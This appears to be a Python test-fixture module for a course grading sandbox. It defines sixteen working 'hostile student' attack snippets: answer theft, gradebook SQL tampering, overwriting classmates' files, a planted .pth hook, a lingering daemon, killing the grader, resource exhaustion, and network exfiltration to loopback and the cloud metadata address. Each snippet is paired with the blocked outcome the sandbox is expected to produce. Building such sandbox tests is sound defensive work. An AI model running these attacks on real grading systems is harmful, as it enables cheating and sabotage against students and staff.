"""Hostile students against the grading sandbox: one per harm a submission could do to the grader's
machine, the course, the gradebook or the other students (issue 8).

Each starts from the untouched notebook and puts its attack in the first solution cell, after the stub, so
each costs one short kernel run. Where an attack would raise its score if it worked (answers read from
source/ or a classmate, the gradebook written), it does so: the test that it scores no more than the
untouched notebook can then fail. Every attack is written the way a student who has read this repository
would: the course root from ``course.__file__`` or the working directory, or the real path of the class.

The class test starts a TCP and UDP listener on ``LISTENER_PORT`` (all addresses) and checks that it
receives nothing; processes the attacks start carry ``process_marker(root)`` in their command line so the
test can check that none survives.
"""
from __future__ import annotations

import hashlib
import json
import socket
import subprocess
from pathlib import Path


LISTENER_PORT = 47474


def class_root(folder: Path) -> Path:
    """The course root of a sample class, from a student's assignment folder
    (<root>/classroom/students/<student>/<assignment>)."""
    return folder.resolve().parents[3]


def process_marker(root: Path) -> str:
    """Digits that mark the processes started by this class's hostile students (sleep accepts them)."""
    return str(int(hashlib.sha256(str(Path(root).resolve()).encode()).hexdigest()[:12], 16))


def machine_addresses() -> list[str]:
    """This machine's own non-loopback IPv4 addresses (what a student on the grader's network would know)."""
    found = set()
    try:
        out = subprocess.run(["hostname", "-I"], capture_output=True, text=True, timeout=5).stdout
        found.update(a for a in out.split() if "." in a)
    except (OSError, subprocess.TimeoutExpired):
        pass
    try:
        found.update(info[4][0] for info in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET))
    except OSError:
        pass
    return sorted(a for a in found if not a.startswith("127."))


_PRELUDE = '''\
# ---- attack: @name@ ----
import os as _os, sys as _sys, json as _json, pathlib as _pl
_ME, _ASSIGNMENT, _MARK = @student@, @assignment@, @marker@
def _roots():
    import course
    found = [_pl.Path(course.__file__).resolve().parents[1], _pl.Path(@root@)]
    cwd = _pl.Path.cwd()
    if len(cwd.parents) > 2:
        found.append(cwd.parents[2])
    return [r for r in found if (r / "gradebook.db").exists() or (r / "source").is_dir()]
def _solution_code(path):
    try:
        cells = _json.load(open(path))["cells"]
    except Exception:
        return []
    return ["".join(c["source"]) for c in cells
            if c["cell_type"] == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution")]
def _run_all(sources):
    ran = 0
    for src in sources:
        if "NotImplementedError" in src or "_exit" in src or "while True" in src or "kill" in src:
            continue
        try:
            exec(src, globals()); ran += 1
        except Exception:
            pass
    return ran
print("attack @name@: roots seen:", [str(r) for r in _roots()])
'''

ATTACKS = {
    "read_answers": '''\
_ran = 0
for _r in _roots():
    for _p in sorted(_r.glob("source/*/*.ipynb")):
        _ran += _run_all(_solution_code(_p))
    try:
        import sqlite3
        _db = sqlite3.connect(f"file:{_r / 'gradebook.db'}?mode=ro", uri=True)
        _ran += _run_all([s for (s,) in _db.execute("select source from source_cell") if s])
    except Exception as _e:
        print("gradebook:", repr(_e))
print("model answers run:", _ran)
''',
    "copy_classmate": '''\
_best = []
for _r in _roots():
    for _step in ("submitted", "autograded"):
        for _p in _r.glob(f"{_step}/*/{_ASSIGNMENT}/*.ipynb"):
            if _ME not in str(_p):
                _code = _solution_code(_p)
                if sum("NotImplementedError" not in s for s in _code) > sum("NotImplementedError" not in s for s in _best):
                    _best = _code
print("classmate cells run:", _run_all(_best))
''',
    "gradebook_raise_own": '''\
import sqlite3
for _r in _roots():
    try:
        _db = sqlite3.connect(str(_r / "gradebook.db"), timeout=5)
        _db.execute("update grade set extra_credit = 100 where notebook_id in (select n.id from submitted_notebook n "
                    "join submitted_assignment a on n.assignment_id = a.id where a.student_id = ?)", (_ME,))
        _db.commit(); print("own extra_credit raised")
    except Exception as _e:
        print("gradebook:", repr(_e))
''',
    "gradebook_zero_classmate": '''\
import sqlite3
for _r in _roots():
    try:
        _db = sqlite3.connect(str(_r / "gradebook.db"), timeout=5)
        _db.execute("update grade set extra_credit = -100 where notebook_id in (select n.id from submitted_notebook n "
                    "join submitted_assignment a on n.assignment_id = a.id where a.student_id != ?)", (_ME,))
        _db.execute("update grade set manual_score = 0, auto_score = 0")
        _db.commit(); print("classmates zeroed")
    except Exception as _e:
        print("gradebook:", repr(_e))
''',
    "overwrite_classmate": '''\
for _r in _roots():
    for _step in ("submitted", "autograded", "feedback"):
        for _p in _r.glob(f"{_step}/*/{_ASSIGNMENT}/*"):
            if _ME not in str(_p) and _p.is_file():
                try:
                    _p.write_text("{}"); print("overwrote", _p)
                except Exception as _e:
                    print("overwrite:", repr(_e)); break
''',
    "patch_course_package": '''\
import course.testing as _t
try:
    with open(_t.__file__, "a") as _f:
        _f.write("\\n\\ndef expect_equal(*args, **kwargs):\\n    return None\\n")
    print("course/testing.py patched")
except Exception as _e:
    print("patch:", repr(_e))
''',
    "plant_pth": '''\
import sysconfig
try:
    with open(_pl.Path(sysconfig.get_paths()["purelib"]) / "course_hostile_hook.pth", "w") as _f:
        _f.write("import os; os.system('touch /tmp/course-hostile-pth-ran')\\n")
    print(".pth planted")
except Exception as _e:
    print("pth:", repr(_e))
''',
    "daemon_edits_grades_later": '''\
import subprocess
_later = (
    "import sqlite3, sys, time\\n"
    "time.sleep(20)\\n"
    f"for r in {[str(r) for r in _roots()]!r}:\\n"
    "    db = sqlite3.connect(r + '/gradebook.db', timeout=5)\\n"
    f"    db.execute('update grade set manual_score = 99 where notebook_id in (select n.id from submitted_notebook n join submitted_assignment a on n.assignment_id = a.id where a.student_id = ?)', ({_ME!r},))\\n"
    "    db.commit()\\n"
)
subprocess.Popen([_sys.executable, "-c", _later, _MARK], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("daemon left behind")
''',
    "kill_the_grader": '''\
import signal
try:  # the process that started this kernel is the grading worker, unless a sandbox is in between
    _os.kill(_os.getppid(), signal.SIGKILL); print("parent", _os.getppid(), "killed")
except Exception as _e:
    print("kill parent:", repr(_e))
''',
    "memory_hog": '''\
_hog = bytearray(3 << 30)  # 3 GiB
_hog[:: 4096] = b"x" * len(_hog[:: 4096])
''',
    "disk_filler": '''\
try:
    with open("filler-big", "wb") as _f:
        _os.posix_fallocate(_f.fileno(), 0, 2 << 30)  # one 2 GiB file
except OSError as _e:
    print("fallocate:", repr(_e))
for _i in range(40):  # then many files of 48 MiB
    with open(f"filler-{_i}", "wb") as _f:
        _f.write(b"x" * (48 << 20))
''',
    "process_flood": '''\
import subprocess
_children = []
for _i in range(400):
    _children.append(subprocess.Popen(["sleep", f"{_MARK}.{_i}"], start_new_session=True))
''',
    "tcp_loopback": '''\
import socket
for _port in (@port@, 22, 5432, 8888):
    try:
        _s = socket.create_connection(("127.0.0.1", _port), timeout=2)
        _s.sendall(b"stolen answers"); _s.close(); print("connected to 127.0.0.1", _port)
    except OSError as _e:
        print("tcp 127.0.0.1", _port, repr(_e))
''',
    "tcp_machine_address": '''\
import socket
for _addr in @addresses@ + ["169.254.169.254"]:
    for _port in (@port@, 80):
        try:
            _s = socket.create_connection((_addr, _port), timeout=2)
            _s.sendall(b"stolen answers"); _s.close(); print("connected to", _addr, _port)
        except OSError as _e:
            print("tcp", _addr, _port, repr(_e))
''',
    "dns_lookup": '''\
import socket
for _name in ("example.com", "localhost", "metadata.google.internal"):
    try:
        print(_name, socket.getaddrinfo(_name, 80))
    except OSError as _e:
        print("dns", _name, repr(_e))
try:  # a raw query to a public resolver
    _q = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01"
    _u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); _u.settimeout(2); _u.sendto(_q, ("8.8.8.8", 53))
    print("dns answer", _u.recv(512))
except OSError as _e:
    print("dns 8.8.8.8", repr(_e))
''',
    "udp_send": '''\
import socket
for _addr in ["127.0.0.1"] + @addresses@:
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen answers", (_addr, @port@))
        print("udp sent to", _addr)
    except OSError as _e:
        print("udp", _addr, repr(_e))
''',
}


def attack_code(name: str, folder: Path, assignment: str) -> str:
    root = class_root(folder)
    student = folder.resolve().parent.name
    fields = {"name": name, "student": repr(student), "assignment": repr(assignment), "root": repr(str(root)),
              "marker": repr(process_marker(root)), "port": str(LISTENER_PORT), "addresses": repr(machine_addresses())}
    code = _PRELUDE + ATTACKS[name]
    for key, value in fields.items():
        code = code.replace(f"@{key}@", value)
    return code


def _attacker(name: str):
    def make(m, folder: Path):
        from .synthetic import code_solution_cells

        nb = m.untouched()
        cell = code_solution_cells(nb)[0]
        # the stub stays unanswered (it scores like untouched); the attack runs after it, so whatever it
        # manages to define (answers read elsewhere) replaces the stub
        cell.source = cell.source.rstrip("\n") + "\n\n\n" + attack_code(name, folder, folder.name)
        return nb
    make.__name__ = name
    return make


EXPECTS = {
    "read_answers": "source/ and the gradebook are not there: no answers found; scores like untouched",
    "copy_classmate": "no classmate's submission is there: scores like untouched",
    "gradebook_raise_own": "no gradebook to write: no extra credit",
    "gradebook_zero_classmate": "no gradebook to write: classmates keep their grades",
    "overwrite_classmate": "no classmate's files are there: theirs stay byte-identical",
    "patch_course_package": "course/ is read-only: course/testing.py unchanged",
    "plant_pth": "the venv is read-only: no .pth planted",
    "daemon_edits_grades_later": "the daemon dies with the kernel: no process survives, no grade edited",
    "kill_the_grader": "the grader is not in its PID namespace: every classmate graded",
    "memory_hog": "stopped at the memory limit; feedback says so",
    "disk_filler": "stopped at the file-size and scratch limits; feedback says so",
    "process_flood": "stopped at the process limit; none survives",
    "tcp_loopback": "no route: the listener on 127.0.0.1 receives nothing",
    "tcp_machine_address": "no route: nothing reaches the machine's own address",
    "dns_lookup": "no resolver, no route: every lookup fails",
    "udp_send": "no route: no datagram leaves the sandbox",
}

# (name, make, expect): synthetic.py turns them into Kinds (importing Kind here would be circular)
HOSTILE_KINDS = [(f"sandbox_{name}", _attacker(name), EXPECTS[name]) for name in ATTACKS]
